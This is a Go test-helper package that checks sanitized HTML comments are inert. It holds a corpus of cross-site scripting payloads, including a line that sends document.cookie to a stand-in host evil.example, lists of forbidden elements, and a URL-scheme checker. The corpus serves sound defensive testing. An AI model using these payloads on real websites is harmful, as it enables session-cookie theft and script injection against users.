// Package markuptest helps test that HTML built from what people write
// cannot run, load or style anything: a corpus of hostile inputs and a
// checker for outputs. It is imported by tests only.
package markuptest

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// MastodonSample is benign comment content as Mastodon sends it: a
// mention, a hashtag and a shortened link. Sanitizers must keep its
// links and their mention/hashtag classes.
const MastodonSample = `<p><span class="h-card" translate="no"><a href="https://mastodon.example/@alice" class="u-url mention">@<span>alice</span></a></span> great episode! <a href="https://mastodon.example/tags/podcast" class="mention hashtag" rel="tag">#<span>podcast</span></a> <a href="https://example.org/shows/42/notes" target="_blank" rel="nofollow noopener noreferrer" translate="no"><span class="invisible">https://</span><span class="ellipsis">example.org/shows/42/no</span><span class="invisible">tes</span></a></p><p>second paragraph<br>with a break</p>`

// XSSCorpus is hostile HTML, the kind remote servers or users may send,
// ending with MastodonSample for contrast. Whatever a sanitizer makes of
// each must pass Inert.
var XSSCorpus = []string{
	// <script>
	`<script>alert(1)</script>`,
	`<SCRIPT>alert(1)</SCRIPT>`,
	`<ScRiPt src="https://evil.example/x.js"></ScRiPt>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<p>hi<script type="text/javascript">document.location='https://evil.example/?c='+document.cookie</script></p>`,

	// Event handlers.
	`<img src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<p onmouseover="alert(1)">hover me</p>`,
	`<input onfocus=alert(1) autofocus>`,
	`<a href="https://ok.example/" onclick="alert(1)">ok link, bad handler</a>`,
	`<span class="mention" onmouseover="alert(1)">x</span>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,

	// javascript: URLs.
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="jav&#x61;script:alert(1)">click</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
	`<a href="javascript&colon;alert(1)">click</a>`,
	"<a href=\"java\tscript:alert(1)\">tab</a>",
	"<a href=\"java\nscript:alert(1)\">newline</a>",
	`<a href="jav&#x09;ascript:alert(1)">encoded tab</a>`,
	`<a href="   javascript:alert(1)">leading spaces</a>`,
	`<a href="&#14;  javascript:alert(1)">leading control</a>`,

	// data: and vbscript: URLs.
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>`,
	`<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">data svg</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<a href="vbscript:msgbox(1)">vbscript</a>`,

	// SVG.
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>`,

	// Styles.
	`<style>body{background:url(javascript:alert(1))}</style><p>styled</p>`,
	`<p style="width:expression(alert(1))">ie</p>`,
	`<div style="background-image:url(javascript:alert(1))">bg</div>`,
	`<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,

	// Embedding, forms, document-level elements.
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><input type="submit"></form>`,
	`<form><button formaction="javascript:alert(1)">go</button></form>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<math href="javascript:alert(1)">math</math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><script>alert(1)</script></template>`,

	// Broken markup.
	`<p>unclosed <b>bold <i>italic <a href="https://ok.example/">link`,
	`<img src=x onerror=alert(1)//`,
	`<<script>alert(1)//<</script>`,
	`<a href="javascript:alert(1)"`,
	`<a href="javascript:alert(1)" <b>x</b>`,
	`<!--<script>alert(1)</script>-->`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!-- --!><script>alert(1)</script> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`<a href="https://ok.example/" title="x"onmouseover="alert(1)">no space</a>`,
	`<a/href="javascript:alert(1)">slash</a>`,

	MastodonSample,
}

// commentElements are the elements comment HTML may hold, and those the
// parser adds around a fragment.
var commentElements = map[string]bool{
	"p": true, "br": true, "a": true, "span": true, "strong": true, "b": true,
	"em": true, "i": true, "u": true, "del": true, "s": true, "blockquote": true,
	"pre": true, "code": true, "ul": true, "ol": true, "li": true,
	"html": true, "head": true, "body": true,
}

// neverElements run, load or style something, whatever else is allowed.
var neverElements = map[string]bool{
	"script": true, "style": true, "svg": true, "math": true, "iframe": true,
	"frame": true, "frameset": true, "object": true, "embed": true, "applet": true,
	"form": true, "input": true, "button": true, "meta": true, "base": true,
	"link": true, "template": true, "noscript": true,
}

// urlAttrs are the attributes whose value a browser follows as a URL.
var urlAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true,
	"xlink:href": true, "data": true, "codebase": true, "cite": true,
	"background": true, "poster": true, "lowsrc": true, "dynsrc": true,
	"longdesc": true, "usemap": true, "ping": true, "manifest": true,
	"icon": true, "srcset": true,
}

// Inert reports, as an error, the first thing in h that could run, load or
// style anything, or that comment HTML may not hold: an element other
// than p br a span strong b em i u del s blockquote pre code ul ol li, an
// on* attribute, a style attribute, a URL that is not http, https or
// mailto. Text is not looked at: escaped "<script>" is inert.
func Inert(h string) error {
	return InertAllowing(h)
}

// InertAllowing is Inert that also lets h hold the given elements (for
// HTML from a broader policy, such as Markdown with images). Elements
// that run, load or style anything (script, style, svg, math, iframe,
// object, embed, form, meta, base, link, ...) are never allowed, nor are
// the attributes and URLs Inert rejects.
func InertAllowing(h string, elements ...string) error {
	doc, err := html.Parse(strings.NewReader(h))
	if err != nil {
		return fmt.Errorf("parse: %w", err)
	}
	extra := make(map[string]bool, len(elements))
	for _, e := range elements {
		extra[strings.ToLower(e)] = true
	}
	return check(doc, extra)
}

func check(n *html.Node, extra map[string]bool) error {
	if n.Type == html.ElementNode {
		name := n.Data
		switch {
		case n.Namespace != "":
			return fmt.Errorf("<%s:%s> element (foreign content)", n.Namespace, name)
		case neverElements[name]:
			return fmt.Errorf("<%s> element", name)
		case !commentElements[name] && !extra[name]:
			return fmt.Errorf("<%s> element not allowed", name)
		}
		for _, a := range n.Attr {
			key := strings.ToLower(a.Key)
			if a.Namespace != "" {
				key = strings.ToLower(a.Namespace) + ":" + key
			}
			switch {
			case strings.HasPrefix(key, "on"):
				return fmt.Errorf("<%s %s=%q> event handler", name, key, a.Val)
			case key == "style":
				return fmt.Errorf("<%s style=%q> style attribute", name, a.Val)
			case key == "srcdoc":
				return fmt.Errorf("<%s srcdoc=%q> attribute", name, a.Val)
			case urlAttrs[key] || strings.HasSuffix(key, ":href"):
				if err := checkURL(a.Val); err != nil {
					return fmt.Errorf("<%s %s=%q>: %w", name, key, a.Val, err)
				}
			}
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if err := check(c, extra); err != nil {
			return err
		}
	}
	return nil
}

// checkURL rejects a URL, as already entity-decoded by the parser, whose
// scheme as a browser reads it is not http, https or mailto. Anything
// before the first ':' that is not in a path, query or fragment counts
// as a scheme, so "foo:bar" is rejected too.
func checkURL(v string) error {
	// Browsers strip leading and trailing C0 controls and spaces and drop
	// tabs and newlines anywhere.
	u := strings.TrimFunc(v, func(c rune) bool { return c <= ' ' })
	u = strings.Map(func(c rune) rune {
		if c == '\t' || c == '\n' || c == '\r' {
			return -1
		}
		return c
	}, u)
	u = strings.ToLower(u)
	colon := strings.IndexByte(u, ':')
	if colon < 0 {
		return nil // relative
	}
	if end := strings.IndexAny(u, "/?#"); end >= 0 && end < colon {
		return nil // relative, the colon is in its path, query or fragment
	}
	switch scheme := u[:colon]; scheme {
	case "http", "https", "mailto":
		return nil
	default:
		return fmt.Errorf("URL scheme %q not allowed", scheme)
	}
}

// AssertInert fails t if Inert finds something wrong with h.
func AssertInert(t testing.TB, h string) {
	t.Helper()
	if err := Inert(h); err != nil {
		t.Errorf("not inert: %v\nin: %s", err, h)
	}
}
